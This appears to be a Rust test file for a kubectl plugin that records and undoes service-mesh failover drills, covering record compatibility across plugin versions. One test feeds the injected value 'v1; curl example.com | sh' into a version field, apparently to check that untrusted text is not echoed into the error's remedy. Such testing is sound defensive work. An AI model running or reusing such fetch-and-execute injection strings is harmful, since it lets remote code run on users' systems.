use mesh_shared::model::kube::write::Write;

use super::*;
use crate::drill::changed::filter::Filter;
use crate::drill::changed::replicas::Replicas;
use crate::drill::changed::reversible::Decision;
use crate::drill::faults::tests::{errors, scaling};
use crate::drill::restore_outcome::decide;

pub fn record(changed: Vec<Changed>) -> Record {
    let service = ServiceName { namespace: "sample".into(), name: "helloworld".into() };
    let started = Timestamp::from_second(1_800_000_000).unwrap();
    Record {
        run: "7f3a".into(),
        holder: "ada@laptop/7f3a".into(),
        cluster: "east".into(),
        system_namespace: "istio-system".into(),
        ..Record::empty(service, scaling(), started, changed)
    }
}

pub fn three_replicas() -> Replicas {
    Replicas {
        kind: "Deployment".into(),
        namespace: "sample".into(),
        name: "helloworld-v1".into(),
        uid: "u".into(),
        before: 3,
        generation: 5,
        autoscaler: None,
    }
}

fn filter(spec: Value) -> Changed {
    Changed::Filter(Filter { namespace: "sample".into(), name: "mesh-failover-drill-helloworld".into(), spec })
}

/// A ConfigMap with this text, as it is in a cluster.
fn config_map(text: &str) -> Value {
    json!({
        "kind": "ConfigMap",
        "metadata": {"namespace": "sample", "name": "mesh-failover-drill-helloworld", "uid": "c"},
        "data": {"record": text},
    })
}

/// Reads a record that was edited as JSON, for example to what a newer version writes.
fn read_edited(edit: impl FnOnce(&mut Value)) -> Result<(Record, String)> {
    let mut value = serde_json::to_value(record(vec![Changed::Replicas(three_replicas())])).unwrap();
    edit(&mut value);
    Record::read(&config_map(&value.to_string()), "east")
}

#[test]
fn what_was_written_reads_back() {
    let spec = json!({"configPatches": [{"applyTo": "HTTP_FILTER"}]});
    let record = record(vec![Changed::Replicas(three_replicas()), filter(spec)]);
    let mut object = record.manifest("kubectl-mesh-failover");
    object["metadata"]["uid"] = "c".into();
    assert_eq!(Record::read(&object, "east"), Ok((record, "c".into())));
}

/// As the plugin at 8977831 writes it, before records had the filter's content and the version that wrote them.
const OLD_SCALING: &str = r#"{
  "schema": "mesh-failover/record/v1",
  "run": "6160b2f2",
  "holder": "ada@laptop/6160b2f2",
  "service": {
    "namespace": "sample",
    "name": "helloworld"
  },
  "cluster": "east",
  "systemNamespace": "istio-system",
  "fault": {
    "kind": "scale-to-zero"
  },
  "started": "2026-11-25T04:05:06Z",
  "deadline": "2026-11-25T04:10:46Z",
  "changed": [
    {
      "what": "replicas",
      "kind": "Deployment",
      "namespace": "sample",
      "name": "helloworld-v1",
      "uid": "0a6f1f6e-7f0c-4d2b-9a53-a3bb2f0c8f15",
      "before": 1,
      "generation": 3,
      "autoscaler": null
    }
  ]
}"#;

const OLD_FILTER: &str = r#"{
  "schema": "mesh-failover/record/v1",
  "run": "6160b2f2",
  "holder": "ada@laptop/6160b2f2",
  "service": {
    "namespace": "sample",
    "name": "helloworld"
  },
  "cluster": "east",
  "systemNamespace": "istio-system",
  "fault": {
    "kind": "upstream-errors",
    "percent": 30
  },
  "started": "2026-11-25T04:05:06Z",
  "deadline": "2026-11-25T04:10:46Z",
  "changed": [
    {
      "what": "filter",
      "namespace": "sample",
      "name": "mesh-failover-drill-helloworld"
    }
  ]
}"#;

#[test]
fn a_scaling_that_an_older_version_recorded_is_put_back() {
    let (record, uid) = Record::read(&config_map(OLD_SCALING), "east").unwrap();
    assert_eq!((record.fault.clone(), record.written_by.as_deref(), uid.as_str()), (scaling(), None, "c"));
    let live = json!({
        "kind": "Deployment",
        "metadata": {
            "namespace": "sample", "name": "helloworld-v1", "uid": "0a6f1f6e-7f0c-4d2b-9a53-a3bb2f0c8f15",
            "resourceVersion": "77",
        },
        "spec": {"replicas": 0},
    });
    let Decision::Restore(write) = decide(&record, &record.changed[0], Some(&live)) else { panic!("{record:?}") };
    let Write::Patch { object, operations, .. } = *write else { panic!("{write:?}") };
    assert_eq!(object, ObjectKey::of(&live));
    assert_eq!(
        serde_json::to_value(&operations).unwrap()[2],
        json!({"op": "add", "path": "/spec/replicas", "value": 1})
    );
}

#[test]
fn a_filter_that_an_older_version_recorded_is_put_back() {
    let (record, _) = Record::read(&config_map(OLD_FILTER), "east").unwrap();
    assert_eq!(record.fault, errors(30));
    assert_eq!(record.changed, [filter(Value::Null)]);
    let live = |run: &str| json!({"metadata": {"uid": "e", "labels": {RUN_LABEL: run}}});
    let decision = |run: &str| decide(&record, &record.changed[0], Some(&live(run)));
    assert!(
        matches!(decision("6160b2f2"), Decision::Restore(write) if matches!(&*write, Write::Delete { uid, .. } if uid == "e"))
    );
    assert!(matches!(decision("another"), Decision::Theirs { .. }));
}

/// What an older version needs in a record is written as before: it can put back what this one left.
#[test]
fn what_an_older_version_reads_of_a_record_is_still_there() {
    let old: Value = serde_json::from_str(OLD_FILTER).unwrap();
    let (mut record, _) = Record::read(&config_map(OLD_FILTER), "east").unwrap();
    record.changed = vec![filter(json!({"configPatches": []}))];
    record.written_by = Some("v0.2.0".into());
    let mut new = serde_json::to_value(&record).unwrap();
    assert_eq!(new["changed"][0].as_object_mut().unwrap().remove("spec"), Some(json!({"configPatches": []})));
    assert_eq!(new.as_object_mut().unwrap().remove("writtenBy"), Some("v0.2.0".into()));
    assert_eq!(new, old);
}

#[test]
fn a_record_of_what_this_version_does_not_know_is_refused_as_a_whole_and_names_the_version_that_does() {
    type Edit = fn(&mut Value);
    let newer: [(Edit, &str); 3] = [
        (|record| record["schema"] = "mesh-failover/record/v9".into(), r#"its version is "mesh-failover/record/v9""#),
        (|record| record["fault"] = json!({"kind": "partition", "from": "west"}), r#"its fault is "partition""#),
        (
            // What it knows comes before what it does not know.
            |record| record["changed"].as_array_mut().unwrap().push(json!({"what": "network-policy", "name": "f"})),
            r#"it changes "network-policy""#,
        ),
    ];
    for (edit, why) in newer {
        let error = read_edited(|record| {
            edit(record);
            record["writtenBy"] = "v0.9.0".into();
        })
        .unwrap_err();
        assert_eq!(error.what, "the record of a drill is newer than this plugin");
        assert_eq!(error.place.as_deref(), Some("context east, ConfigMap sample/mesh-failover-drill-helloworld"));
        let said = error.why.clone().unwrap();
        assert!(said.starts_with(why) && said.contains(&BUILD.version()), "{said}");
        assert_eq!(error.remedy, ["use kubectl mesh-failover v0.9.0 or newer: v0.9.0 wrote it"]);
        for unsaid in [Value::Null, "v1; curl example.com | sh".into(), "".into()] {
            let without = read_edited(|record| {
                edit(record);
                record["writtenBy"] = unsaid;
            });
            let newer = format!("use a kubectl mesh-failover that is newer than {}", BUILD.version());
            assert_eq!(without.unwrap_err().remedy, [newer]);
        }
    }
}

#[test]
fn what_cannot_be_read_is_not_guessed_at() {
    assert!(Record::read(&config_map("{"), "east").is_err());
    assert!(Record::read(&json!({}), "east").is_err());
    assert!(read_edited(|record| record["changed"][0]["before"] = "many".into()).is_err());
    assert!(read_edited(|record| record["fault"] = json!({"percent": 3})).is_err());
}

#[test]
fn every_kind_of_change_is_known_by_its_name_in_records() {
    let names = [Changed::Replicas(three_replicas()), filter(Value::Null)]
        .map(|changed| serde_json::to_value(changed).unwrap()["what"].as_str().unwrap().to_owned());
    assert_eq!(names.as_slice(), Changed::KINDS);
}
